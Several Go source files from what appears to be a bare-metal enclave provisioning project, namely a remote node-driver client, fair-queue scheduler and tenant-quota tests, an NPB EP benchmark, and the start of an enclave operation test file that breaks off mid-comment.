	return nil, d.do(ctx, "POST", "/nodes/"+url.PathEscape(node)+"/ima", struct{}{}, nil)
}

// StopAgent implements core.NodeDriver.
func (d *nodeDriver) StopAgent(ctx context.Context, node string) error {
	return d.do(ctx, "POST", "/nodes/"+url.PathEscape(node)+"/stop", struct{}{}, nil)
}

// AddServicePort implements core.NodeDriver.
func (d *nodeDriver) AddServicePort(ctx context.Context, name string) error {
	return d.do(ctx, "PUT", "/ports/"+url.PathEscape(name), nil, nil)
}

// Reachable implements core.NodeDriver.
func (d *nodeDriver) Reachable(ctx context.Context, portA, portB string) error {
	q := url.Values{"from": {portA}, "to": {portB}}
	return d.do(ctx, "GET", "/reachable?"+q.Encode(), nil, nil)
}

// Dial connects to a boltedd serving the full service plane and
// returns a Cloud whose HIL, BMI, Keylime registrar and node driver
// are HTTP clients against it. The returned Cloud runs the same
// enclave pipeline as an in-process one — AcquireNodes provisions a
// concurrent batch entirely over the wire.
func Dial(serverURL string) (*core.Cloud, error) {
	base := strings.TrimRight(serverURL, "/")
	// Bound the probe: a blackholed server must not hang the dial
	// (http.DefaultClient has no timeout).
	infoClient := &http.Client{Timeout: 30 * time.Second}
	resp, err := infoClient.Get(base + "/info")
	if err != nil {
		return nil, fmt.Errorf("remote: dial %s: %w", serverURL, err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return nil, fmt.Errorf("remote: dial %s: %s (not a full-surface boltedd?)", serverURL, resp.Status)
	}
	var info serverInfo
	if err := json.NewDecoder(resp.Body).Decode(&info); err != nil {
		return nil, fmt.Errorf("remote: dial %s: bad server info: %w", serverURL, err)
	}
	cfg := core.CloudConfig{
		Nodes:       info.Nodes,
		Firmware:    core.FirmwareKind(info.Firmware),
		PlatformGen: info.PlatformGen,
	}
	// All four service clients ride the shared pooled transport: a
	// concurrent batch multiplexes its request storm over a few
	// kept-alive connections instead of dialing per request.
	hilCli := hil.NewClient(base)
	hilCli.HTTP = sharedHTTPClient
	bmiCli := bmi.NewClient(base + prefixBMI)
	bmiCli.HTTP = sharedHTTPClient
	regCli := keylime.NewRegistrarClient(base + prefixRegistrar)
	regCli.HTTP = sharedHTTPClient
	return core.NewRemoteCloud(cfg, core.RemoteServices{
		HIL:       hilCli,
		BMI:       bmiCli,
		Registrar: regCli,
		Driver:    &nodeDriver{base: base, http: sharedHTTPClient},
	})
}
