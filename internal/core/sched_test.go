package core

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"testing"
	"time"

	"bolted/internal/tpm"
)

// --- FairQueue ---

func popAll(q *FairQueue) []string {
	var order []string
	for {
		_, tenant, ok := q.Pop()
		if !ok {
			return order
		}
		order = append(order, tenant)
	}
}

func TestFairQueueFIFOAtEqualWeight(t *testing.T) {
	q := NewFairQueue()
	q.Push("a", ClassForeground)
	q.Push("b", ClassForeground)
	q.Push("a", ClassForeground)
	got := popAll(q)
	want := []string{"a", "b", "a"}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("pop order %v, want %v", got, want)
		}
	}
}

func TestFairQueueInterleavesBackloggedTenant(t *testing.T) {
	// A hog enqueues a train of 8 before a light tenant's single
	// request arrives: fair queueing serves the light tenant after at
	// most one hog unit instead of behind the whole train.
	q := NewFairQueue()
	for i := 0; i < 8; i++ {
		q.Push("hog", ClassForeground)
	}
	q.Push("light", ClassForeground)
	order := popAll(q)
	for i, tenant := range order {
		if tenant == "light" {
			if i > 1 {
				t.Fatalf("light tenant served at position %d behind the hog train: %v", i, order)
			}
			return
		}
	}
	t.Fatal("light tenant never served")
}

func TestFairQueueWeights(t *testing.T) {
	q := NewFairQueue()
	q.SetWeight("heavy", 3)
	for i := 0; i < 9; i++ {
		q.Push("heavy", ClassForeground)
		q.Push("light", ClassForeground)
	}
	heavy := 0
	for i := 0; i < 8; i++ {
		_, tenant, ok := q.Pop()
		if !ok {
			t.Fatal("queue drained early")
		}
		if tenant == "heavy" {
			heavy++
		}
	}
	// Weight 3:1 should give the heavy tenant ~6 of the first 8 grants.
	if heavy < 5 || heavy > 7 {
		t.Fatalf("heavy tenant got %d of first 8 grants, want ~6", heavy)
	}
}

func TestFairQueuePriorityBands(t *testing.T) {
	q := NewFairQueue()
	q.Push("pool", ClassBackground)
	q.Push("pool", ClassBackground)
	q.Push("tenant", ClassForeground)
	if _, tenant, _ := q.Pop(); tenant != "tenant" {
		t.Fatalf("foreground did not outrank queued background, got %q", tenant)
	}
	if q.LenClass(ClassBackground) != 2 || q.LenClass(ClassForeground) != 0 {
		t.Fatalf("band lengths bg=%d fg=%d", q.LenClass(ClassBackground), q.LenClass(ClassForeground))
	}
}

func TestFairQueueRemove(t *testing.T) {
	q := NewFairQueue()
	q.Push("a", ClassForeground)
	id := q.Push("b", ClassForeground)
	q.Push("c", ClassForeground)
	if !q.Remove(id) {
		t.Fatal("Remove of queued id failed")
	}
	if q.Remove(id) {
		t.Fatal("double Remove succeeded")
	}
	got := popAll(q)
	if len(got) != 2 || got[0] != "a" || got[1] != "c" {
		t.Fatalf("pop after remove = %v", got)
	}
}

// --- Scheduler ---

func TestSchedulerGrantsUpToSlots(t *testing.T) {
	s := NewScheduler(2)
	ctx := context.Background()
	rel1, err := s.Acquire(ctx, "a", ClassForeground, nil)
	if err != nil {
		t.Fatal(err)
	}
	rel2, err := s.Acquire(ctx, "a", ClassForeground, nil)
	if err != nil {
		t.Fatal(err)
	}
	granted := make(chan func(), 1)
	go func() {
		rel3, err := s.Acquire(ctx, "b", ClassForeground, nil)
		if err != nil {
			t.Error(err)
		}
		granted <- rel3
	}()
	waitQueued(t, s, 1)
	select {
	case <-granted:
		t.Fatal("third acquire granted past the slot count")
	default:
	}
	rel1()
	rel3 := <-granted
	rel3()
	rel2()
	if st := s.Stats(); st.InUse != 0 || st.Queued != 0 || st.Grants != 3 {
		t.Fatalf("final stats = %+v", st)
	}
}

func TestSchedulerCancelWhileQueued(t *testing.T) {
	s := NewScheduler(1)
	rel, err := s.Acquire(context.Background(), "a", ClassForeground, nil)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	errc := make(chan error, 1)
	go func() {
		_, err := s.Acquire(ctx, "b", ClassForeground, nil)
		errc <- err
	}()
	waitQueued(t, s, 1)
	cancel()
	if err := <-errc; !errors.Is(err, context.Canceled) {
		t.Fatalf("cancelled acquire = %v, want context.Canceled", err)
	}
	if q := s.Queued(); q != 0 {
		t.Fatalf("cancelled waiter still queued (%d)", q)
	}
	rel()
	// The slot must still be grantable after the cancellation.
	rel2, err := s.Acquire(context.Background(), "c", ClassForeground, nil)
	if err != nil {
		t.Fatal(err)
	}
	rel2()
}

func TestSchedulerForegroundPreemptsBackgroundHolder(t *testing.T) {
	s := NewScheduler(1)
	bgCtx, bgCancel := context.WithCancel(context.Background())
	relBG, err := s.Acquire(bgCtx, "pool", ClassBackground, bgCancel)
	if err != nil {
		t.Fatal(err)
	}
	granted := make(chan func(), 1)
	go func() {
		rel, err := s.Acquire(context.Background(), "tenant", ClassForeground, nil)
		if err != nil {
			t.Error(err)
		}
		granted <- rel
	}()
	// The queued foreground request must fire the holder's preempt hook.
	select {
	case <-bgCtx.Done():
	case <-time.After(5 * time.Second):
		t.Fatal("background holder never preempted")
	}
	// The slot only frees when the preempted pipeline releases.
	relBG()
	rel := <-granted
	rel()
	st := s.Stats()
	if st.Preemptions != 1 {
		t.Fatalf("preemptions = %d, want 1", st.Preemptions)
	}
}

func TestSchedulerBackgroundDoesNotPreempt(t *testing.T) {
	s := NewScheduler(1)
	bgCtx, bgCancel := context.WithCancel(context.Background())
	relBG, err := s.Acquire(bgCtx, "pool", ClassBackground, bgCancel)
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	ctx, cancel := context.WithCancel(context.Background())
	go func() {
		defer close(done)
		if _, err := s.Acquire(ctx, "pool", ClassBackground, nil); err == nil {
			t.Error("second background acquire granted on a full house")
		}
	}()
	waitQueued(t, s, 1)
	if bgCtx.Err() != nil {
		t.Fatal("background waiter preempted the background holder")
	}
	cancel()
	<-done
	relBG()
	if st := s.Stats(); st.Preemptions != 0 {
		t.Fatalf("preemptions = %d, want 0", st.Preemptions)
	}
}

func TestSchedulerSetSlotsDispatchesWaiters(t *testing.T) {
	s := NewScheduler(1)
	rel, err := s.Acquire(context.Background(), "a", ClassForeground, nil)
	if err != nil {
		t.Fatal(err)
	}
	granted := make(chan func(), 1)
	go func() {
		rel2, err := s.Acquire(context.Background(), "a", ClassForeground, nil)
		if err != nil {
			t.Error(err)
		}
		granted <- rel2
	}()
	waitQueued(t, s, 1)
	s.SetSlots(2)
	rel2 := <-granted
	rel2()
	rel()
}

func TestSchedulerFairGrantOrder(t *testing.T) {
	// One slot, a hog with 4 queued requests, then one light request:
	// the light tenant is granted after at most one hog grant.
	s := NewScheduler(1)
	relHold, err := s.Acquire(context.Background(), "hold", ClassForeground, nil)
	if err != nil {
		t.Fatal(err)
	}
	order := make(chan string, 8)
	var wg sync.WaitGroup
	enqueue := func(tenant string) {
		wg.Add(1)
		go func() {
			defer wg.Done()
			rel, err := s.Acquire(context.Background(), tenant, ClassForeground, nil)
			if err != nil {
				t.Error(err)
				return
			}
			order <- tenant
			rel()
		}()
	}
	for i := 0; i < 4; i++ {
		enqueue("hog")
		waitQueued(t, s, i+1)
	}
	enqueue("light")
	waitQueued(t, s, 5)
	relHold()
	wg.Wait()
	close(order)
	pos := -1
	i := 0
	for tenant := range order {
		if tenant == "light" {
			pos = i
		}
		i++
	}
	if pos < 0 || pos > 1 {
		t.Fatalf("light tenant granted at position %d, want <= 1", pos)
	}
}

// waitQueued polls until the scheduler reports depth queued waiters.
func waitQueued(t *testing.T, s *Scheduler, depth int) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for s.Queued() < depth {
		if time.Now().After(deadline) {
			t.Fatalf("queue never reached %d (at %d)", depth, s.Queued())
		}
		time.Sleep(time.Millisecond)
	}
}

// --- quota types and refill backoff ---

func TestQuotaErrorMatchesSentinel(t *testing.T) {
	err := fmt.Errorf("wrapped: %w", &QuotaError{Tenant: "t", Detail: "cap", RetryAfter: time.Second})
	if !errors.Is(err, ErrOverQuota) {
		t.Fatal("QuotaError does not match ErrOverQuota")
	}
	var qe *QuotaError
	if !errors.As(err, &qe) || qe.Tenant != "t" {
		t.Fatalf("errors.As lost the QuotaError: %v", err)
	}
}

func TestTenantQuotaValidate(t *testing.T) {
	if err := (TenantQuota{Weight: 2, MaxNodes: 4, MaxInFlight: 2}).Validate(); err != nil {
		t.Fatal(err)
	}
	for _, q := range []TenantQuota{{Weight: -1}, {MaxNodes: -1}, {MaxInFlight: -2}} {
		if err := q.Validate(); !errors.Is(err, ErrInvalid) {
			t.Fatalf("Validate(%+v) = %v, want ErrInvalid", q, err)
		}
	}
}

func TestRefillBackoffBounds(t *testing.T) {
	base := 10 * time.Millisecond
	if d := refillBackoff(base, 0); d != base {
		t.Fatalf("streak 0 backoff = %v, want %v", d, base)
	}
	for streak := 1; streak <= 20; streak++ {
		shift := streak - 1
		if shift > 6 {
			shift = 6
		}
		lo := base << shift
		if lo > maxRefillBackoff {
			lo = maxRefillBackoff
		}
		for i := 0; i < 50; i++ {
			d := refillBackoff(base, streak)
			if d < lo/2 || d > lo {
				t.Fatalf("streak %d backoff %v outside [%v, %v]", streak, d, lo/2, lo)
			}
		}
	}
	if d := refillBackoff(0, 1); d < DefaultRefillBackoff/2 || d > DefaultRefillBackoff {
		t.Fatalf("zero base backoff %v outside default bounds", d)
	}
}

// --- pipeline integration: preemption of an in-flight refill ---

// bgGateDriver blocks background-class (warm-refill) attestation
// whitelist fetches until its gate opens, honoring ctx cancellation —
// it freezes the refiller inside its airlock hold without slowing any
// foreground work.
type bgGateDriver struct {
	NodeDriver
	mu      sync.Mutex
	blocked int
	gate    chan struct{}
}

func (d *bgGateDriver) ExpectedBootPCRs(ctx context.Context, node string) (map[int][]tpm.Digest, error) {
	if class, _ := schedRequest(ctx); class == ClassBackground {
		d.mu.Lock()
		d.blocked++
		gate := d.gate
		d.mu.Unlock()
		select {
		case <-gate:
		case <-ctx.Done():
			return nil, ctx.Err()
		}
	}
	return d.NodeDriver.ExpectedBootPCRs(ctx, node)
}

func (d *bgGateDriver) blockedCount() int {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.blocked
}

// TestForegroundAcquireDisplacesRefill pins the tentpole's preemption
// contract: with a single airlock slot held by an in-flight warm-pool
// refill quote, a foreground 4-node acquire does not wait for the
// refill to finish — the scheduler cancels the refill attempt, the
// healthy node aborts back to the free pool (not rejected), and the
// batch completes. Afterwards the refiller recovers and parks its
// standby.
func TestForegroundAcquireDisplacesRefill(t *testing.T) {
	cloud := testCloud(t, 6, FirmwareLinuxBoot)
	gd := &bgGateDriver{NodeDriver: cloud.Driver, gate: make(chan struct{})}
	cloud.Driver = gd

	e, err := NewEnclave(cloud, "t", ProfileCharlie)
	if err != nil {
		t.Fatal(err)
	}
	defer e.Destroy()
	e.IMAWhitelist().AllowContent("/usr/bin/app", []byte("app"))

	pol := DefaultPoolPolicy()
	pol.Target = 1
	pol.Airlocks = 1
	pol.RetryBackoff = 5 * time.Millisecond
	if err := e.ConfigurePool(pol); err != nil {
		t.Fatal(err)
	}

	// Wait for the refill attempt to freeze inside its airlock hold.
	deadline := time.Now().Add(10 * time.Second)
	for gd.blockedCount() == 0 || cloud.Scheduler().Stats().InUse == 0 {
		if time.Now().After(deadline) {
			t.Fatalf("refill never froze in the airlock: %+v", cloud.Scheduler().Stats())
		}
		time.Sleep(time.Millisecond)
	}

	res, err := e.AcquireNodes(context.Background(), "fedora28", 4)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Nodes) != 4 || len(res.Failed) != 0 {
		t.Fatalf("foreground batch = %d nodes, %d failed", len(res.Nodes), len(res.Failed))
	}
	st := cloud.Scheduler().Stats()
	if st.Preemptions == 0 {
		t.Fatalf("foreground acquire completed without preempting the refill: %+v", st)
	}
	// The preempted node aborted back to free — never quarantined.
	if rej := cloud.Rejected(); len(rej) != 0 {
		t.Fatalf("preempted refill node landed in the rejected pool: %v", rej)
	}
	// With the gate open the refiller recovers and parks its standby.
	close(gd.gate)
	waitWarm(t, e, 1)
}

// TestManagerQuotaCRUD covers the /v1-facing quota registry.
func TestManagerQuotaCRUD(t *testing.T) {
	c := testCloud(t, 2, FirmwareLinuxBoot)
	m := NewManager(c)

	if _, err := m.Quota("t"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("unset quota = %v, want ErrNotFound", err)
	}
	st, created, err := m.SetQuota("t", TenantQuota{Weight: 4, MaxNodes: 8, MaxInFlight: 2})
	if err != nil || !created {
		t.Fatalf("SetQuota = %+v, %v, %v", st, created, err)
	}
	if _, created, err = m.SetQuota("t", TenantQuota{Weight: 2}); err != nil || created {
		t.Fatalf("update reported created=%v, err=%v", created, err)
	}
	if _, _, err := m.SetQuota("t", TenantQuota{Weight: -1}); !errors.Is(err, ErrInvalid) {
		t.Fatalf("invalid quota = %v, want ErrInvalid", err)
	}
	if _, _, err := m.SetQuota("", TenantQuota{}); !errors.Is(err, ErrInvalid) {
		t.Fatalf("unnamed tenant quota = %v, want ErrInvalid", err)
	}
	got, err := m.Quota("t")
	if err != nil || got.Quota.Weight != 2 {
		t.Fatalf("Quota = %+v, %v", got, err)
	}
	m.SetQuota("a", TenantQuota{Weight: 1})
	list := m.ListQuotas()
	if len(list) != 2 || list[0].Tenant != "a" || list[1].Tenant != "t" {
		t.Fatalf("ListQuotas = %+v", list)
	}
	if err := m.DeleteQuota("t"); err != nil {
		t.Fatal(err)
	}
	if err := m.DeleteQuota("t"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("double delete = %v, want ErrNotFound", err)
	}
	if _, err := m.Quota("t"); !errors.Is(err, ErrNotFound) {
		t.Fatal("deleted quota still resolvable")
	}
}

func TestAdmissionInFlightCap(t *testing.T) {
	c := testCloud(t, 4, FirmwareLinuxBoot)
	m := NewManager(c)
	if _, err := m.CreateEnclave("t", ProfileBob); err != nil {
		t.Fatal(err)
	}
	if _, _, err := m.SetQuota("t", TenantQuota{MaxInFlight: 2}); err != nil {
		t.Fatal(err)
	}
	_, err := m.StartAcquire("t", "fedora28", 3)
	if !errors.Is(err, ErrOverQuota) {
		t.Fatalf("over-cap acquire = %v, want ErrOverQuota", err)
	}
	var qe *QuotaError
	if !errors.As(err, &qe) || qe.Tenant != "t" || qe.RetryAfter <= 0 {
		t.Fatalf("rejection lost its QuotaError detail: %v", err)
	}
	op, err := m.StartAcquire("t", "fedora28", 2)
	if err != nil {
		t.Fatalf("within-cap acquire rejected: %v", err)
	}
	if _, err := op.Wait(context.Background()); err != nil {
		t.Fatal(err)
	}
}

func TestAdmissionMaxNodesCountsMembers(t *testing.T) {
	c := testCloud(t, 4, FirmwareLinuxBoot)
	m := NewManager(c)
	if _, err := m.CreateEnclave("t", ProfileBob); err != nil {
		t.Fatal(err)
	}
	if _, _, err := m.SetQuota("t", TenantQuota{MaxNodes: 2}); err != nil {
		t.Fatal(err)
	}
	op, err := m.StartAcquire("t", "fedora28", 2)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := op.Wait(context.Background()); err != nil {
		t.Fatal(err)
	}
	if _, err := m.StartAcquire("t", "fedora28", 1); !errors.Is(err, ErrOverQuota) {
		t.Fatalf("acquire past footprint cap = %v, want ErrOverQuota", err)
	}
	st, err := m.Quota("t")
	if err != nil || st.Nodes != 2 || st.InFlight != 0 {
		t.Fatalf("QuotaStatus = %+v, %v", st, err)
	}
}

func TestAdmissionQueueBackpressure(t *testing.T) {
	c := testCloud(t, 4, FirmwareLinuxBoot)
	m := NewManager(c)
	if _, err := m.CreateEnclave("t", ProfileBob); err != nil {
		t.Fatal(err)
	}
	s := c.Scheduler()
	s.SetSlots(1)
	rel, err := s.Acquire(context.Background(), "x", ClassForeground, nil)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		_, _ = s.Acquire(ctx, "y", ClassForeground, nil)
	}()
	waitQueued(t, s, 1)

	m.SetBackpressureLimit(1)
	if _, err := m.StartAcquire("t", "fedora28", 1); !errors.Is(err, ErrOverQuota) {
		t.Fatalf("acquire under backpressure = %v, want ErrOverQuota", err)
	}
	m.SetBackpressureLimit(0) // disabled again
	cancel()
	wg.Wait()
	rel()
	op, err := m.StartAcquire("t", "fedora28", 1)
	if err != nil {
		t.Fatalf("acquire after backpressure lifted: %v", err)
	}
	if _, err := op.Wait(context.Background()); err != nil {
		t.Fatal(err)
	}
}

// TestForegroundWaitNoWorseThanRefillerDisabled pins the acceptance
// bound: a foreground 4-node acquire with the warm pool actively
// refilling takes no longer (modulo scheduling noise) than the same
// acquire with no refiller at all, because background refill quotes
// are displaced rather than waited out.
func TestForegroundWaitNoWorseThanRefillerDisabled(t *testing.T) {
	measure := func(configurePool bool) time.Duration {
		cloud := testCloud(t, 8, FirmwareLinuxBoot)
		e, err := NewEnclave(cloud, "t", ProfileCharlie)
		if err != nil {
			t.Fatal(err)
		}
		defer e.Destroy()
		e.IMAWhitelist().AllowContent("/usr/bin/app", []byte("app"))
		if configurePool {
			pol := DefaultPoolPolicy()
			pol.Target = 3
			pol.Airlocks = 1
			pol.RetryBackoff = time.Millisecond
			if err := e.ConfigurePool(pol); err != nil {
				t.Fatal(err)
			}
			// Drain any parked standbys so the batch takes the cold
			// path while the refiller keeps competing for the slot.
			for {
				if st, _ := e.PoolStats(); st.Warm == 0 {
					break
				}
				e.DrainPool()
				time.Sleep(time.Millisecond)
			}
		} else {
			cloud.Scheduler().SetSlots(1)
		}
		start := time.Now()
		res, err := e.AcquireNodes(context.Background(), "fedora28", 4)
		if err != nil {
			t.Fatal(err)
		}
		if len(res.Nodes) != 4 {
			t.Fatalf("batch = %d nodes (failed %d)", len(res.Nodes), len(res.Failed))
		}
		return time.Since(start)
	}
	withRefill := measure(true)
	withoutRefill := measure(false)
	t.Logf("4-node acquire: refilling pool %v, refiller disabled %v", withRefill, withoutRefill)
	if raceEnabled {
		t.Skip("wall-clock bound not meaningful under the race detector")
	}
	// "No worse" with headroom for scheduler noise on loaded CI.
	if withRefill > 2*withoutRefill+time.Second {
		t.Fatalf("refilling pool slowed the foreground acquire: %v vs %v", withRefill, withoutRefill)
	}
}

// TestManagerConcurrentCreateDeleteDuringAcquire races enclave
// lifecycle churn against an in-flight acquire. Any interleaving is
// allowed to win or lose individual CRUD calls — the invariants are
// that only the documented sentinels surface, the in-flight operation
// completes, and the run is clean under -race.
func TestManagerConcurrentCreateDeleteDuringAcquire(t *testing.T) {
	c := testCloud(t, 8, FirmwareLinuxBoot)
	m := NewManager(c)
	if _, err := m.CreateEnclave("tenant", ProfileBob); err != nil {
		t.Fatal(err)
	}
	op, err := m.StartAcquire("tenant", "fedora28", 2)
	if err != nil {
		t.Fatal(err)
	}

	allowed := func(err error) bool {
		return err == nil ||
			errors.Is(err, ErrExists) ||
			errors.Is(err, ErrConflict) ||
			errors.Is(err, ErrNotFound)
	}
	var wg sync.WaitGroup
	for g := 0; g < 4; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 25; i++ {
				name := fmt.Sprintf("ghost-%d", g)
				if _, err := m.CreateEnclave(name, ProfileBob); !allowed(err) {
					t.Errorf("CreateEnclave(%s): %v", name, err)
				}
				if err := m.DeleteEnclave(name); !allowed(err) {
					t.Errorf("DeleteEnclave(%s): %v", name, err)
				}
				// Deleting the enclave with a running operation must
				// refuse with ErrConflict, never corrupt the batch.
				if err := m.DeleteEnclave("tenant"); !allowed(err) {
					t.Errorf("DeleteEnclave(tenant): %v", err)
				}
			}
		}(g)
	}
	res, opErr := op.Wait(context.Background())
	wg.Wait()
	if opErr == nil {
		if len(res.Nodes) != 2 {
			t.Fatalf("acquire finished with %d nodes", len(res.Nodes))
		}
	} else if !errors.Is(opErr, ErrNotFound) && !errors.Is(opErr, context.Canceled) {
		// A racing delete may legally have torn the enclave down only
		// if the operation had already finished; anything else is a bug.
		t.Fatalf("op.Wait = %v", opErr)
	}
}
