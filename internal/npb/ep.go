package npb

import (
	"fmt"
	"math"
)

// EP — the Embarrassingly Parallel benchmark: generate pairs of
// uniform deviates with the NPB linear congruential generator, convert
// acceptable pairs to Gaussian deviates by the acceptance-rejection
// (Marsaglia polar) method, and count them in concentric square annuli.
// The only communication is the final reduction, which is why Figure 7
// shows EP nearly immune to network encryption.

// EPResult is the verified output.
type EPResult struct {
	Pairs   int64     // Gaussian pairs accepted
	SumX    float64   // sum of X deviates
	SumY    float64   // sum of Y deviates
	Counts  [10]int64 // annulus counts
	PerRank int       // pairs attempted per rank
	WorldSz int
}

// NPB's LCG: a = 5^13, modulus 2^46.
const (
	lcgA = 1220703125.0
	lcgM = 70368744177664.0 // 2^46
)

// lcg advances the NPB random stream, returning a uniform in (0,1).
func lcg(seed *float64) float64 {
	// Double-precision exact for 46-bit modulus per the NPB spec trick:
	// split multiply to stay within 2^52.
	const r23 = 1.0 / (1 << 23)
	const t23 = 1 << 23
	const r46 = 1.0 / lcgM
	a1 := math.Floor(r23 * lcgA)
	a2 := lcgA - t23*a1
	x1 := math.Floor(r23 * *seed)
	x2 := *seed - t23*x1
	t1 := a1*x2 + a2*x1
	t2 := math.Floor(r23 * t1)
	z := t1 - t23*t2
	t3 := t23*z + a2*x2
	t4 := math.Floor(r46 * t3)
	*seed = t3 - lcgM*t4
	return r46 * *seed
}

// RunEP executes EP with pairsPerRank attempts on each rank of w.
func RunEP(w *World, pairsPerRank int) (*EPResult, error) {
	if pairsPerRank < 1 {
		return nil, fmt.Errorf("npb: EP needs at least one pair per rank")
	}
	res := &EPResult{PerRank: pairsPerRank, WorldSz: w.Size()}
	err := w.Run(func(c *Comm) error {
		seed := 271828183.0 + float64(c.Rank())*314159.0
		var sx, sy float64
		var pairs float64
		var counts [10]float64
		for i := 0; i < pairsPerRank; i++ {
			u1 := 2*lcg(&seed) - 1
			u2 := 2*lcg(&seed) - 1
			t := u1*u1 + u2*u2
			if t > 1 || t == 0 {
				continue
			}
			f := math.Sqrt(-2 * math.Log(t) / t)
			x, y := u1*f, u2*f
			pairs++
			sx += x
			sy += y
			ring := int(math.Max(math.Abs(x), math.Abs(y)))
			if ring < 10 {
				counts[ring]++
			}
		}
		// The single communication step: one 13-element allreduce.
		vec := append([]float64{pairs, sx, sy}, counts[:]...)
		total, err := c.AllReduceSum(vec)
		if err != nil {
			return err
		}
		if c.Rank() == 0 {
			res.Pairs = int64(total[0])
			res.SumX = total[1]
			res.SumY = total[2]
			for i := range res.Counts {
				res.Counts[i] = int64(total[3+i])
			}
		}
		return nil
	})
	if err != nil {
		return nil, err
	}
	return res, nil
}

// VerifyEP checks the statistical properties of a run: the acceptance
// rate of the polar method is pi/4, and the Gaussian sums are near zero
// relative to the sample size.
func VerifyEP(r *EPResult) error {
	attempts := float64(r.PerRank) * float64(r.WorldSz)
	rate := float64(r.Pairs) / attempts
	if math.Abs(rate-math.Pi/4) > 0.02 {
		return fmt.Errorf("npb: EP acceptance rate %.4f, want ~%.4f", rate, math.Pi/4)
	}
	sigma := math.Sqrt(float64(r.Pairs))
	if math.Abs(r.SumX) > 6*sigma || math.Abs(r.SumY) > 6*sigma {
		return fmt.Errorf("npb: EP Gaussian sums too large: %g, %g", r.SumX, r.SumY)
	}
	var inRings int64
	for _, n := range r.Counts {
		inRings += n
	}
	if inRings != r.Pairs {
		return fmt.Errorf("npb: EP ring counts %d != pairs %d", inRings, r.Pairs)
	}
	// For unit Gaussians, P(max(|X|,|Y|) < 1) = erf(1/sqrt2)^2 ~ 0.466.
	frac := float64(r.Counts[0]) / float64(r.Pairs)
	if math.Abs(frac-0.466) > 0.03 {
		return fmt.Errorf("npb: EP ring-0 fraction %.3f, want ~0.466", frac)
	}
	if r.Counts[0] < r.Counts[1] || r.Counts[1] < r.Counts[2] {
		return fmt.Errorf("npb: EP ring counts not decreasing: %v", r.Counts)
	}
	return nil
}
