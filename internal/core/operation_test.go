package core

import (
	"context"
	"errors"
	"strings"
	"sync"
	"testing"
	"time"
)

func TestManagerEnclaveResourceLifecycle(t *testing.T) {
	c := testCloud(t, 4, FirmwareLinuxBoot)
	m := NewManager(c)

	e, err := m.CreateEnclave("tenant", ProfileBob)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := m.CreateEnclave("tenant", ProfileBob); !errors.Is(err, ErrExists) {
		t.Fatalf("duplicate create = %v, want ErrExists", err)
	}
	if got, err := m.Enclave("tenant"); err != nil || got != e {
		t.Fatalf("Enclave() = %v, %v", got, err)
	}
	if _, err := m.Enclave("ghost"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("unknown enclave = %v, want ErrNotFound", err)
	}
	if names := m.ListEnclaves(); len(names) != 1 || names[0] != "tenant" {
		t.Fatalf("ListEnclaves = %v", names)
	}
	if err := m.DeleteEnclave("tenant"); err != nil {
		t.Fatal(err)
	}
	if _, err := m.Enclave("tenant"); !errors.Is(err, ErrNotFound) {
		t.Fatal("deleted enclave still resolvable")
	}
}

func TestOperationLifecycleHappyPath(t *testing.T) {
	c := testCloud(t, 4, FirmwareLinuxBoot)
	m := NewManager(c)
	if _, err := m.CreateEnclave("tenant", ProfileBob); err != nil {
		t.Fatal(err)
	}
	op, err := m.StartAcquire("tenant", "fedora28", 3)
	if err != nil {
		t.Fatal(err)
	}
	if op.ID == "" || op.Enclave != "tenant" || op.Image != "fedora28" || op.Count != 3 {
		t.Fatalf("operation metadata = %+v", op)
	}
	if got, err := m.Operation(op.ID); err != nil || got != op {
		t.Fatalf("Operation(%s) = %v, %v", op.ID, got, err)
	}
	// Non-terminal operations expose no result yet.
	if res, opErr := op.Result(); op.Phase().Terminal() == false && (res != nil || opErr != nil) {
		t.Fatalf("in-flight Result() = %v, %v", res, opErr)
	}

	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	res, err := op.Wait(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if op.Phase() != OpDone {
		t.Fatalf("phase = %s, want %s", op.Phase(), OpDone)
	}
	if len(res.Nodes) != 3 || len(res.Failed) != 0 || len(res.Aborted) != 0 {
		t.Fatalf("result = %d nodes, %d failed, %d aborted", len(res.Nodes), len(res.Failed), len(res.Aborted))
	}
	if op.Finished().IsZero() {
		t.Fatal("terminal operation has no finish time")
	}
	// Per-node progress reflects the terminal lifecycle step.
	for _, n := range res.Nodes {
		if k := op.Progress()[n.Name]; k != EvJoined {
			t.Fatalf("progress[%s] = %s, want %s", n.Name, k, EvJoined)
		}
	}
}

// TestOperationEventStreamMatchesJournal pins the journal fan-out: the
// events an operation observed are exactly the enclave journal of its
// run, in order.
func TestOperationEventStreamMatchesJournal(t *testing.T) {
	c := testCloud(t, 4, FirmwareLinuxBoot)
	m := NewManager(c)
	e, err := m.CreateEnclave("tenant", ProfileBob)
	if err != nil {
		t.Fatal(err)
	}
	op, err := m.StartAcquire("tenant", "fedora28", 4)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := op.Wait(context.Background()); err != nil {
		t.Fatal(err)
	}
	lines := func(evs []Event) string {
		var out []string
		for _, ev := range evs {
			out = append(out, string(ev.Kind)+" "+ev.Node+" "+ev.Detail)
		}
		return strings.Join(out, "\n")
	}
	if got, want := lines(op.Events()), lines(e.Journal().Events()); got != want {
		t.Fatalf("operation events diverge from journal:\nop:\n%s\njournal:\n%s", got, want)
	}
}

// TestOperationCancelMidBatch cancels the moment the first member
// joins the enclave and asserts every unfinished node went back to the
// free pool, none were quarantined, and the operation reports
// Cancelled. The batch is double the worker-pool bound, so at the
